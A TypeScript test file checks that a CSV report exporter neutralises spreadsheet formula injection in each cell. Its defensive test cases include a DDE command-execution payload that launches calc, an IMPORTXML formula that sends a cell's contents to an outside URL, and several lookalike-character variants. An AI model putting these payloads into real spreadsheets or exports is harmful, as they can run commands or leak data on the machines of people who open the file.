import { describe, expect, it } from 'vitest'
import { emptyReport, sampleReport, withEveryText } from '../testing/sample-report.js'
import { written } from '../testing/written.js'
import { csvCell } from './csv-cell.js'
import { csvReport } from './csv-report.js'

/** Reads CSV as RFC 4180 has it. */
function read(csv: string): string[][] {
  const rows = csv.replace(/^\uFEFF/, '').matchAll(/((?:"(?:[^"]|"")*"(?:,|\r\n))+?)(?<=\r\n)/g)
  return [...rows].map(([row]) =>
    [...row.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
  )
}

describe('a cell', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tplain',
    ' =1+1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '−1',
    `=cmd|'/c calc'!A0`,
    '=HYPERLINK("https://example.org","x")',
    '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
    '\0=1',
  ])('S-36 is never a formula: %j', (payload) => {
    expect(csvCell(payload)).toMatch(/^"'/)
  })

  it.each(['plain', 'a=b', '1-2', 'a@b.example', '“Require MFA” is off', ''])('stays as it is: %j', (text) => {
    expect(csvCell(text)).toBe(`"${text}"`)
  })

  it('keeps quotes, commas and line ends inside, and cuts what a spreadsheet cannot hold', () => {
    expect(csvCell('a "b", c\r\nd')).toBe('"a ""b"", c\r\nd"')
    expect(csvCell('x'.repeat(40_000)).length).toBeLessThan(32_767)
  })
})

describe('a report for spreadsheets', () => {
  it('has a line for each control of each tenant, in UTF-8 with its mark', async () => {
    const csv = await written(csvReport(sampleReport(['Fourth Coffee', 'Adventure Works'])))
    expect(csv.startsWith('\uFEFF"Tenant"')).toBe(true)
    const [head = [], ...rows] = read(csv)
    expect(rows).toHaveLength(26)
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head.length]))
    const fact = (row: string[] | undefined, name: string) => row?.[head.indexOf(name)]
    expect(fact(rows[0], 'Stands')).toBe('Fail')
    expect(fact(rows[0], 'Evidence')).toContain(
      'Require MFA: state = enabledForReportingButNotEnforced (wanted: enabled)',
    )
    expect(fact(rows[3], 'Cause')).toBe('Not licensed')
    expect(fact(rows[5], 'Exception')).toContain('approved by Jonas Weber')
    expect(fact(rows[13], 'Tenant')).toBe('Adventure Works')
  })

  it.each(['=1+1', '+1', '-1', '@x', '\t=1', '\r=1', '"\r\n=1', '",=1'])(
    'S-36 holds no formula, whatever the tenant holds: %j',
    async (payload) => {
      const csv = await written(csvReport(withEveryText(sampleReport(), (text) => payload + text)))
      const rows = read(csv)
      expect(rows).toHaveLength(14)
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]/)
    },
  )

  it('has but its head for a tenant of which nothing is known', async () => {
    expect(read(await written(csvReport(emptyReport())))).toHaveLength(1)
  })
})
